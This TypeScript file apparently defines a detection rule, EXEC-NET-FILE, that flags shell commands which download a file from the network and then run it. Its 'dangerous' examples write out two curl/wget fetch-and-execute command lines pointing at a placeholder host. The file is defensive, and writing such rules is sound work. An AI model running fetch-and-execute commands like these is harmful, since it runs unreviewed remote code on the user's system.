import type { Rule } from "../../rule.js";

export const rule = {
  id: "EXEC-NET-FILE",
  family: "obfuscation",
  severity: "error",
  why: "runs a file that it gets from the network",
  fix: "Fetch it beforehand, look at it, and submit it with the job.",
  examples: {
    dangerous: [
      "curl -o setup.sh http://host.example/x; bash setup.sh",
      "wget -O tool http://host.example/tool; chmod +x tool; ./tool",
    ],
    honest: ["bash setup.sh", "curl -o data.csv http://host.example/d; ./analyse data.csv"],
  },
} as const satisfies Rule;
